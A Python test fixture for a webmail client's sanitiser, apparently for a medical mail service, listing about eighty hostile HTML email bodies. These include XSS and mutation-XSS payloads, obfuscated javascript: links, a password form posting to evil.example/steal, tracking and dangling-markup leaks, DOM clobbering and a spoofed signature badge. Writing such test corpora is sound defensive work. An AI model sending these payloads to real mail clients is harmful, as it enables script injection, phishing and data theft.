"""Hostile HTML for the webmail's end-to-end hostile-mail test.

:data:`HOSTILE` pairs a name with an HTML message body that tries to run script, reach another origin, navigate
away, submit a form elsewhere, redress the UI or pass itself off as carnet's signature badge. Every script payload
calls ``alert(1)``, ``console.log('HOSTILE')`` or ``fetch('http://evil.example/<name>')``, and every remote
resource lives on :data:`EVIL_HOST`, so a :class:`browser.Guard` sees any payload that gets through (a dialog, a
console line, a blocked request). A few payloads need the reader to act (click a link, submit a form): the webmail
must neutralise them all the same. :data:`SELF_FIRING` names those that act on their own when the HTML is rendered
unsanitised, without a Content Security Policy: the harness test checks that the guard catches each of them, so
the corpus is known to bite.

:func:`hostile_message` wraps a body in an RFC 5322 message (multipart/alternative, CRLF line endings).
"""

from __future__ import annotations

import email.policy
import email.utils
from collections.abc import Sequence
from email.message import EmailMessage

EVIL_HOST = "evil.example"
EVIL = f"http://{EVIL_HOST}"

_SPOOFED_BADGE = (
    '<div class="badge badge-verified" role="status">Signé et vérifié : Dr Faux — RPPS 10000000000</div>'
    '<p>Bonjour, veuillez trouver ci-joint les résultats de votre patient.</p>'
)

HOSTILE: list[tuple[str, str]] = [
    # -- script elements ---------------------------------------------------------------------------------------
    ("script-inline", f"<p>Bonjour</p><script>fetch('{EVIL}/script-inline');alert(1)</script>"),
    ("script-src", f'<p>Bonjour</p><script src="{EVIL}/script-src.js"></script>'),
    ("script-src-protocol-relative", f'<script src="//{EVIL_HOST}/script-protocol-relative.js"></script>'),
    ("script-module-import", f"<script type=\"module\">import '{EVIL}/script-module.js';</script>"),
    ("script-uppercase", "<SCRIPT>console.log('HOSTILE')</SCRIPT>"),
    ("script-split-tag", "<scr<script>ipt>alert(1)</scr</script>ipt><script>alert(1)</script>"),
    ("script-conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>x</p>"),
    # -- event handlers ----------------------------------------------------------------------------------------
    ("img-onerror", f"<img src=\"x\" onerror=\"fetch('{EVIL}/img-onerror')\" alt=\"\">"),
    ("img-onerror-unquoted", "<img src=x onerror=alert(1)>"),
    ("body-onload", "<html><body onload=\"console.log('HOSTILE')\"><p>Bonjour</p></body></html>"),
    ("svg-onload", "<svg onload=\"alert(1)\"><circle r=\"5\"/></svg>"),
    ("onmouseover", '<div onmouseover="alert(1)" style="position:fixed;inset:0">Survolez-moi</div>'),
    ("input-autofocus-onfocus", "<input autofocus onfocus=\"console.log('HOSTILE')\">"),
    ("details-ontoggle", "<details open ontoggle=\"console.log('HOSTILE')\"><summary>x</summary></details>"),
    ("marquee-onstart", "<marquee onstart=\"console.log('HOSTILE')\">x</marquee>"),
    # -- SVG ---------------------------------------------------------------------------------------------------
    ("svg-script", f"<svg><script>fetch('{EVIL}/svg-script')</script></svg>"),
    (
        "svg-animate-onbegin",
        '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    ),
    (
        "svg-xlink-javascript",
        '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)">'
        '<text x="10" y="20">Cliquez ici</text></a></svg>',
    ),
    (
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x="10" y="20">Ouvrir</text></a></svg>',
    ),
    (
        "svg-foreignobject",
        '<svg><foreignObject width="100" height="100"><img src="x" onerror="alert(1)"></foreignObject></svg>',
    ),
    ("svg-image-external", f'<svg><image href="{EVIL}/svg-image.png" width="10" height="10"/></svg>'),
    ("svg-use-external", f'<svg><use href="{EVIL}/sprite.svg#icon"/></svg>'),
    ("svg-style-import", f"<svg><style>@import url({EVIL}/svg-style.css);</style></svg>"),
    # -- MathML and parser differentials (mutation XSS) --------------------------------------------------------
    ("mathml-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "mathml-mglyph-style-comment",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1'
        '&Tab;onerror=alert(1)&gt;">',
    ),
    ("mathml-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("textarea-title", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
    ("svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("template", "<template><img src=x onerror=alert(1)><script>alert(1)</script></template>"),
    # -- javascript:, vbscript:, data: URLs --------------------------------------------------------------------
    ("javascript-link", '<a href="javascript:alert(1)">Voir le compte rendu</a>'),
    (
        "javascript-link-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Voir</a>',
    ),
    (
        "javascript-link-hex-entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">Voir</a>',
    ),
    ("javascript-link-named-entities", '<a href="javascript&colon;alert(1)">Voir</a>'),
    ("javascript-link-whitespace", '<a href=" \tjava\tscr\nipt\r:alert(1)">Voir</a>'),
    ("javascript-link-entity-whitespace", '<a href="java&#x09;script&#x0A;:alert(1)">Voir</a>'),
    ("javascript-link-mixed-case", '<a href="JaVaScRiPt:alert(1)">Voir</a>'),
    ("javascript-area", '<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:alert(1)"></map>'),
    ("javascript-iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("javascript-form-action", '<form action="javascript:alert(1)"><button>Valider</button></form>'),
    ("vbscript-link", '<a href="vbscript:msgbox(1)">Voir</a>'),
    (
        "data-html-link",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Ouvrir la pièce jointe</a>',
    ),
    ("data-html-iframe", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>"),
    ("data-html-object", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("data-svg-img", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">"),
    # -- navigation --------------------------------------------------------------------------------------------
    ("meta-refresh-evil", f'<meta http-equiv="refresh" content="0;url={EVIL}/meta-refresh">'),
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    (
        "meta-refresh-data",
        '<meta http-equiv="refresh" content="0;url=data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">',
    ),
    ("base-href", f'<base href="{EVIL}/"><img src="base-pixel.gif" alt=""><a href="phish">Votre dossier</a>'),
    ("link-target-blank", f'<a href="{EVIL}/tabnabbing" target="_blank">Résultats</a>'),
    ("link-ping", f'<a href="#x" ping="{EVIL}/ping">Résultats</a>'),
    ("link-download", f'<a href="{EVIL}/ordonnance.exe" download>Ordonnance</a>'),
    # -- forms -------------------------------------------------------------------------------------------------
    (
        "form-action",
        f'<form action="{EVIL}/steal" method="post"><label>Mot de passe <input type="password" name="pw"></label>'
        "<button>Confirmer</button></form>",
    ),
    ("button-formaction", f'<form><button formaction="{EVIL}/formaction">Confirmer</button></form>'),
    ("input-image", f'<input type="image" src="{EVIL}/input-image.png" alt="OK">'),
    # -- CSS ---------------------------------------------------------------------------------------------------
    ("style-attribute-url", f"<div style=\"background-image:url('{EVIL}/style-attribute.png')\">Bonjour</div>"),
    ("style-block-url", f"<style>body{{background:url({EVIL}/style-block.png)}}</style><p>Bonjour</p>"),
    ("style-import", f'<style>@import url("{EVIL}/import.css");</style><p>Bonjour</p>'),
    ("link-stylesheet", f'<link rel="stylesheet" href="{EVIL}/x.css"><p>Bonjour</p>'),
    (
        "link-prefetch",
        f'<link rel="prefetch" href="{EVIL}/prefetch"><link rel="preload" href="{EVIL}/preload" as="image">',
    ),
    ("link-icon", f'<link rel="icon" href="{EVIL}/favicon.ico">'),
    (
        "font-face",
        f"<style>@font-face{{font-family:evil;src:url({EVIL}/f)}}p{{font-family:evil}}</style><p>Bonjour</p>",
    ),
    ("css-expression", '<div style="width: expression(alert(1))">Bonjour</div>'),
    ("css-behavior", f'<div style="behavior: url({EVIL}/x.htc); -moz-binding: url({EVIL}/x.xml#x)">x</div>'),
    (
        "css-overlay",
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">'
        "Votre session a expiré, reconnectez-vous.</div>",
    ),
    # -- remote content: tracking, media, embedded documents ---------------------------------------------------
    ("tracking-pixel", f'<img src="{EVIL}/pixel.gif" width="1" height="1" alt="">'),
    ("img-srcset", f'<img srcset="{EVIL}/srcset.png 1x, {EVIL}/srcset-2x.png 2x" alt="">'),
    ("picture-source", f'<picture><source srcset="{EVIL}/picture.png"><img src="data:," alt=""></picture>'),
    ("img-lazy", f'<img src="{EVIL}/lazy.png" loading="lazy" alt="">'),
    ("background-attribute", f'<table background="{EVIL}/background.png"><tr><td>Bonjour</td></tr></table>'),
    ("body-background", f'<html><body background="{EVIL}/body-background.png"><p>Bonjour</p></body></html>'),
    ("video-poster", f'<video poster="{EVIL}/poster.png"></video>'),
    ("video-source", f'<video autoplay muted><source src="{EVIL}/video.mp4" type="video/mp4"></video>'),
    ("audio-src", f'<audio src="{EVIL}/audio.mp3" autoplay></audio>'),
    ("track-src", f'<video><track src="{EVIL}/track.vtt" default></video>'),
    ("object-data", f'<object data="{EVIL}/object.html"></object>'),
    ("object-data-flash", f'<object data="{EVIL}/object.swf" type="application/x-shockwave-flash"></object>'),
    ("embed-src", f'<embed src="{EVIL}/embed.html" type="text/html">'),
    ("embed-src-flash", f'<embed src="{EVIL}/embed.swf">'),
    ("iframe-src", f'<iframe src="{EVIL}/iframe"></iframe>'),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("frameset", f'<frameset><frame src="{EVIL}/frame"></frameset>'),
    ("dangling-markup", f"<img src='{EVIL}/dangling?<p>Compte rendu confidentiel : glycémie 1,8 g/L</p>"),
    # -- DOM clobbering and UI redress -------------------------------------------------------------------------
    (
        "dom-clobbering",
        f'<a id="carnet"></a><a id="carnet" name="config" href="{EVIL}/clobber"></a>'
        '<form name="getElementById"></form><img name="cookie" alt=""><form id="csrf"><input name="token"></form>',
    ),
    ("spoofed-badge", _SPOOFED_BADGE),
]

#: Names of the payloads that act without the reader when rendered unsanitised without CSP (checked by
#: ``test_browser_harness.py``: the guard must catch every one of them).
SELF_FIRING: frozenset[str] = frozenset(
    {
        "audio-src", "background-attribute", "base-href", "body-background", "body-onload", "data-html-iframe",
        "data-html-object", "details-ontoggle", "embed-src", "font-face", "frameset", "iframe-src", "iframe-srcdoc",
        "img-lazy", "img-onerror", "img-onerror-unquoted", "img-srcset", "input-autofocus-onfocus", "input-image",
        "javascript-iframe", "link-prefetch", "link-stylesheet", "meta-refresh-data", "meta-refresh-evil",
        "noscript-title", "object-data", "picture-source", "script-inline", "script-module-import", "script-split-tag",
        "script-src", "script-src-protocol-relative", "script-uppercase", "style-attribute-url", "style-block-url",
        "style-import", "svg-animate-onbegin", "svg-foreignobject", "svg-image-external", "svg-onload", "svg-script",
        "svg-style-import", "svg-use-external", "textarea-title", "track-src", "tracking-pixel", "video-poster",
        "video-source",
    }
)


def hostile_message(
    name: str,
    html: str,
    *,
    sender: str,
    to: str | Sequence[str],
    subject: str | None = None,
    message_id: str | None = None,
) -> bytes:
    """An RFC 5322 message carrying ``html``: multipart/alternative (text/plain "see HTML", then the UTF-8 HTML,
    quoted-printable), CRLF line endings, ``X-Carnet-Hostile: <name>``."""
    message = EmailMessage(policy=email.policy.SMTP)
    message["From"] = sender
    message["To"] = to if isinstance(to, str) else ", ".join(to)
    message["Subject"] = subject if subject is not None else f"Message piégé : {name}"
    message["Date"] = email.utils.formatdate(localtime=False, usegmt=True)
    message["Message-ID"] = message_id or email.utils.make_msgid(idstring=name, domain="hostile.carnet.test")
    message["X-Carnet-Hostile"] = name
    message.set_content("see HTML\n", subtype="plain", charset="utf-8")
    message.add_alternative(html, subtype="html", charset="utf-8", cte="quoted-printable")
    for part in message.iter_parts():
        del part["MIME-Version"]  # set by add_alternative on the part it creates; only the top level needs it
    return message.as_bytes(policy=email.policy.SMTP)
